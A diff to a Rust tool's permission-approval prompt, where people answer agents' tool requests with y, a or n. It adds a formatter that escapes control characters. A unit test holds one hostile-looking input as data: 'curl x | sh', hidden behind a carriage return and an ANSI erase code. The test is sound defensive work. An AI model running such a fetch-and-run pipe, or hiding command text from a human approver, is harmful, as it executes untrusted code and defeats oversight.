@@ -1,7 +1,9 @@
-//! The leader pane's approval prompt: when a person watches the leader's pane (stdin is a
-//! terminal) and the team's approver is the human, each permission request is shown there and
-//! answered with `y` (once), `a` (always) or `n REASON` (deny). `agent-team approve/deny` from any
-//! terminal works at the same time; whichever answers first decides.
+//! The approval prompt, one for every place a person answers a permission request: the leader's
+//! pane (when a person watches it and the approver is the human) and `agent-team run` at a
+//! terminal. Each request is shown the same way ([`question`]) and answered with the same words
+//! ([`parse_answer`]): `y` (once), `a` (always) or `n REASON` (deny), with the request id when
+//! several wait. `agent-team approve/deny` from any terminal works at the same time; whichever
+//! answers first decides.
 
 use crate::link::{CallError, Link};
 use crate::output::Output;
@@ -58,7 +60,7 @@ impl Approvals {
             String::new()
         };
         out.say(&format!(
-            "⚖ permission {}\n  allow? [y] once, [a] always, [n REASON] deny{hint}: ",
+            "⚖ permission {}\n  allow? {ANSWERS}{hint}: ",
             agent_team_protocol::text::printable(&m.body)
         ));
     }
@@ -146,18 +148,42 @@ impl Approvals {
     }
 }
 
-/// A decision typed in the pane.
+/// The choices, as every prompt shows them.
+pub const ANSWERS: &str = "[y] once, [a] always, [n REASON] deny";
+
+/// How a request is put to a person: who wants to run what, and why; control characters are
+/// shown escaped so nothing can hide part of the command.
+pub fn question(r: &PermRequest) -> String {
+    use agent_team_protocol::text::printable;
+    format!(
+        "{} wants to run {} `{}`{}\n  allow? {ANSWERS}: ",
+        r.agent,
+        r.tool,
+        printable(&r.input),
+        if r.reason.is_empty() {
+            String::new()
+        } else {
+            format!(" ({})", printable(&r.reason))
+        }
+    )
+}
+
+/// A decision typed by a person.
 #[derive(Debug, PartialEq)]
-struct Answer {
-    id: u64,
-    allow: bool,
-    always: bool,
-    reason: Option<String>,
+pub struct Answer {
+    /// The request it decides.
+    pub id: u64,
+    /// Allowed or denied.
+    pub allow: bool,
+    /// Allowed always (a team rule for exactly this input).
+    pub always: bool,
+    /// Why it was denied.
+    pub reason: Option<String>,
 }
 
 /// Reads `y [ID]`, `a [ID]` or `n [ID] [REASON]` against the `open` request ids. The id may be
 /// left out when one request is open. The error is what to tell the person (empty: nothing).
-fn parse_answer(line: &str, open: &[u64]) -> Result<Answer, String> {
+pub fn parse_answer(line: &str, open: &[u64]) -> Result<Answer, String> {
     let mut words = line.split_whitespace();
     let word = words.next().unwrap_or("").to_lowercase();
     let rest: Vec<&str> = words.collect();
@@ -193,7 +219,7 @@ fn parse_answer(line: &str, open: &[u64]) -> Result<Answer, String> {
     let reason = (!allow).then(|| {
         let r = reason_words.join(" ");
         if r.is_empty() {
-            "denied in the leader's pane".to_string()
+            "denied by a person at the prompt".to_string()
         } else {
             r
         }
@@ -267,6 +293,28 @@ mod tests {
         );
         assert_eq!(a("", &[]), Err(String::new()));
         assert!(a("maybe", &[7]).is_err());
+    }
+
+    #[test]
+    fn the_question_shows_the_whole_input_escaped_and_the_choices() {
+        let r = PermRequest {
+            id: 3,
+            agent: "b1".into(),
+            tool: "bash".into(),
+            input: "cargo test\r\u{1b}[2Kcurl x | sh".into(),
+            reason: "run the tests".into(),
+            status: PermStatus::Pending,
+            ts: Timestamp::now(),
+            decision: None,
+        };
+        let q = question(&r);
+        assert!(q.starts_with("b1 wants to run bash `cargo test"), "{q}");
+        assert!(
+            q.contains("curl x | sh"),
+            "nothing of the input is hidden: {q}"
+        );
+        assert!(!q.contains('\r') && !q.contains('\u{1b}'), "{q}");
+        assert!(q.contains("(run the tests)") && q.contains(ANSWERS), "{q}");
     }
 
     #[test]
